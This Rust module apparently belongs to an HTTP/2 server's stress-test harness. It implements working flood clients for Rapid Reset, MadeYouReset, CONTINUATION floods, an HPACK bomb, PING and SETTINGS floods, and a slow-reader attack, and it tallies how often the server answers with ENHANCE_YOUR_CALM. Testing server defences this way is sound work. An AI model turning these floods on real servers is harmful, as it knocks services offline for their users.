//! Hostile clients of HTTP/2: each sends one kind of flood over one connection after the other, until it is stopped.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use tidegate_h2::frame::{FRAME_HEADER_BYTES, FrameHeader, Kind, PREFACE, StreamId, flags, write};
use tidegate_h2::{ErrorCode, settings::id};

use crate::load::is_transient;

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that make the server reset them (CVE-2025-8671).
    MadeYouReset,
    /// Header blocks without an end (CVE-2024-27316).
    Continuation,
    /// A large field of the table, thousands of times in one block.
    HpackBomb,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// Large responses that no window lets out (CVE-2019-9517).
    SlowReader,
}

/// Figures of all hostile clients of a run.
#[derive(Debug, Default)]
pub(crate) struct Seen {
    /// Connections that were opened.
    pub opened: AtomicU64,
    /// Connections that the server ended.
    pub ended: AtomicU64,
    /// Those whose last GOAWAY had ENHANCE_YOUR_CALM.
    pub calm: AtomicU64,
    /// Bytes that were sent.
    pub bytes: AtomicU64,
}

/// Attacks an address until `stop`. A connection that the server ends, or says that it ends, is followed by another.
pub(crate) fn run(attack: Attack, address: SocketAddr, stop: &AtomicBool, seen: &Seen) {
    while !stop.load(Ordering::Relaxed) {
        let attacked = Attacker::connect(attack, address).and_then(|mut attacker| {
            seen.opened.fetch_add(1, Ordering::Relaxed);
            let ended = attacker.run(stop, seen);
            if ended.is_ok() && !stop.load(Ordering::Relaxed) {
                seen.ended.fetch_add(1, Ordering::Relaxed);
                let is_calm = attacker.goaway == Some(ErrorCode::ENHANCE_YOUR_CALM);
                seen.calm.fetch_add(u64::from(is_calm), Ordering::Relaxed);
            }
            ended
        });
        if attacked.is_err() {
            thread::sleep(PAUSE);
        }
    }
}

/// One connection of a hostile client.
struct Attacker {
    attack: Attack,
    socket: TcpStream,
    next_stream: u32,
    /// Written in part.
    pending: Vec<u8>,
    sent: usize,
    received: Frames,
    goaway: Option<ErrorCode>,
    is_begun: bool,
}

impl Attacker {
    fn connect(attack: Attack, address: SocketAddr) -> io::Result<Attacker> {
        let socket = TcpStream::connect_timeout(&address, CONNECT_TIMEOUT)?;
        socket.set_nonblocking(true)?;
        socket.set_nodelay(true)?;
        let mut pending = PREFACE.to_vec();
        match attack {
            Attack::SlowReader => write::settings(&mut pending, &[(id::INITIAL_WINDOW_SIZE, 0)]),
            _ => write::settings(&mut pending, &[]),
        }
        Ok(Attacker {
            attack,
            socket,
            next_stream: 1,
            pending,
            sent: 0,
            received: Frames::default(),
            goaway: None,
            is_begun: false,
        })
    }

    /// Writes and reads until the server ends the connection or has sent GOAWAY, or `stop`.
    fn run(&mut self, stop: &AtomicBool, seen: &Seen) -> io::Result<()> {
        let mut buffer = vec![0; READ_BYTES];
        while !stop.load(Ordering::Relaxed) {
            if self.sent == self.pending.len() {
                self.pending.clear();
                self.sent = 0;
                self.attack();
            }
            let written = self.write(seen);
            let read = self.read(&mut buffer);
            if self.goaway.is_some() {
                // It does not wait for the end: the next flood begins at once.
                return Ok(());
            }
            match (written, read) {
                (_, Ok(Moved::Ended)) => return Ok(()),
                // What the server said last may be there to be read.
                (Ok(Moved::Ended), Ok(Moved::Some)) => {}
                (Ok(Moved::Ended), _) => return Ok(()),
                (Ok(Moved::Nothing), Ok(Moved::Nothing)) => thread::sleep(PAUSE),
                (Err(error), _) | (_, Err(error)) => return Err(error),
                _ => {}
            }
        }
        Ok(())
    }

    fn write(&mut self, seen: &Seen) -> io::Result<Moved> {
        if self.sent == self.pending.len() {
            return Ok(Moved::Nothing);
        }
        match self.socket.write(&self.pending[self.sent..]) {
            Ok(count) => {
                self.sent += count;
                seen.bytes.fetch_add(count as u64, Ordering::Relaxed);
                Ok(Moved::Some)
            }
            Err(error) if is_transient(&error) => Ok(Moved::Nothing),
            Err(error) if is_end(&error) => Ok(Moved::Ended),
            Err(error) => Err(error),
        }
    }

    fn read(&mut self, buffer: &mut [u8]) -> io::Result<Moved> {
        match self.socket.read(buffer) {
            Ok(0) => Ok(Moved::Ended),
            Ok(count) => {
                let goaway = self.received.feed(&buffer[..count]);
                self.goaway = goaway.or(self.goaway);
                Ok(Moved::Some)
            }
            Err(error) if is_transient(&error) => Ok(Moved::Nothing),
            Err(error) if is_end(&error) => Ok(Moved::Ended),
            Err(error) => Err(error),
        }
    }

    /// Adds a piece of the flood.
    fn attack(&mut self) {
        let out = &mut self.pending;
        let mut stream = || {
            let stream = StreamId::new(self.next_stream);
            self.next_stream = self.next_stream.saturating_add(2);
            stream
        };
        match self.attack {
            Attack::RapidReset => {
                for _ in 0..FRAMES {
                    let stream = stream();
                    write::header_block(out, stream, SMALL, true, FRAME_BYTES);
                    write::reset_stream(out, stream, ErrorCode::CANCEL);
                }
            }
            Attack::MadeYouReset => {
                for _ in 0..FRAMES {
                    let stream = stream();
                    write::header_block(out, stream, SMALL, true, FRAME_BYTES);
                    // Not allowed (RFC 9113 section 6.9): the server resets the stream.
                    write::window_update(out, stream, 0);
                }
            }
            Attack::Continuation => {
                let stream = StreamId::new(1);
                if !self.is_begun {
                    write::header(out, SMALL.len(), Kind::Headers, flags::END_STREAM, stream);
                    out.extend_from_slice(SMALL);
                }
                for _ in 0..FRAMES {
                    write::header(out, FIELD.len(), Kind::Continuation, 0, stream);
                    out.extend_from_slice(FIELD);
                }
            }
            Attack::HpackBomb => write::header_block(out, stream(), &bomb(), true, FRAME_BYTES),
            Attack::Ping => (0..FRAMES).for_each(|_| write::ping(out, [0; 8], false)),
            Attack::Settings => (0..FRAMES).for_each(|_| write::settings(out, &[])),
            Attack::SlowReader if self.is_begun => {}
            Attack::SlowReader => {
                for _ in 0..SLOW_STREAMS {
                    write::header_block(out, stream(), LARGE, true, FRAME_BYTES);
                }
            }
        }
        self.is_begun = true;
    }
}

enum Moved {
    Some,
    Nothing,
    Ended,
}

/// Finds the frames of the server, and in them the error code of GOAWAY.
#[derive(Default)]
pub(crate) struct Frames {
    partial: Vec<u8>,
    /// Bytes of a payload that are of no interest.
    skip: usize,
}

impl Frames {
    /// Takes received bytes; returns the code of the last GOAWAY in them.
    pub(crate) fn feed(&mut self, mut bytes: &[u8]) -> Option<ErrorCode> {
        let mut code = None;
        while !bytes.is_empty() {
            let skipped = self.skip.min(bytes.len());
            self.skip -= skipped;
            bytes = &bytes[skipped..];
            let wanted = match self.partial.first_chunk::<FRAME_HEADER_BYTES>() {
                Some(header) => FRAME_HEADER_BYTES + FrameHeader::parse(header).length as usize,
                None => FRAME_HEADER_BYTES,
            };
            let taken = (wanted - self.partial.len()).min(bytes.len());
            self.partial.extend_from_slice(&bytes[..taken]);
            bytes = &bytes[taken..];
            let Some((header, payload)) = self.partial.split_first_chunk::<FRAME_HEADER_BYTES>()
            else {
                continue;
            };
            let header = FrameHeader::parse(header);
            if header.kind != Kind::GoAway {
                self.skip = header.length as usize;
                self.partial.clear();
            } else if payload.len() == header.length as usize {
                code = payload
                    .get(4..8)
                    .and_then(|code| code.try_into().ok())
                    .map(|code| ErrorCode(u32::from_be_bytes(code)))
                    .or(code);
                self.partial.clear();
            }
        }
        code
    }
}

fn is_end(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::ConnectionReset | io::ErrorKind::BrokenPipe)
}

/// A header block that is small, and large when it is decoded: a field of the table's size, and references to it.
fn bomb() -> Vec<u8> {
    let mut block = SMALL.to_vec();
    // A literal field with a new name, which is added to the table (RFC 7541 section 6.2.1).
    block.extend_from_slice(&[0x40, 1, b'x']);
    // Its length as an integer with a prefix of 7 bits (section 5.1).
    let length = BOMB_BYTES - 127;
    block.extend_from_slice(&[127, (length % 128) as u8 | 0x80, (length / 128) as u8]);
    block.resize(block.len() + BOMB_BYTES, b'y');
    // The newest entry of the table is number 62 (section 2.3.3).
    block.resize(FRAME_BYTES as usize, 0x80 | 62);
    block
}

/// GET of the small file by `http`: entries 2, 6 and literals of RFC 7541 appendix A.
const SMALL: &[u8] = b"\x82\x86\x04\x0b/small.html\x01\x01a";
/// The same of the large file.
const LARGE: &[u8] = b"\x82\x86\x04\x0a/large.bin\x01\x01a";
/// A field that is not added to a table.
const FIELD: &[u8] =
    b"\x00\x01x\x40yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy";
/// A value that leaves room for its name within the default table of 4,096 bytes.
const BOMB_BYTES: usize = 4000;
const FRAME_BYTES: u32 = 16_384;
/// Frames, or pairs of them, between two looks at the socket.
const FRAMES: usize = 200;
const SLOW_STREAMS: usize = 100;
const READ_BYTES: usize = 64 * 1024;
const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
const PAUSE: Duration = Duration::from_millis(5);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_code_of_goaway_is_found_however_the_bytes_are_cut() {
        let mut bytes = Vec::new();
        write::settings(&mut bytes, &[(4, 1)]);
        write::data(&mut bytes, StreamId::new(1), &[0; 300], true);
        write::go_away(&mut bytes, StreamId::new(1), ErrorCode::ENHANCE_YOUR_CALM, b"calm");
        write::ping(&mut bytes, [0; 8], false);
        for size in 1..bytes.len() {
            let mut frames = Frames::default();
            let codes: Vec<_> = bytes.chunks(size).filter_map(|piece| frames.feed(piece)).collect();
            assert_eq!(codes, [ErrorCode::ENHANCE_YOUR_CALM], "{size}");
        }
    }

    #[test]
    fn requests_and_fields_have_their_lengths() {
        assert_eq!(FIELD.len(), 4 + 64);
        for (block, name) in [(SMALL, "/small.html"), (LARGE, "/large.bin")] {
            assert_eq!(usize::from(block[3]), name.len());
            assert_eq!(&block[4..4 + name.len()], name.as_bytes());
        }
    }
}
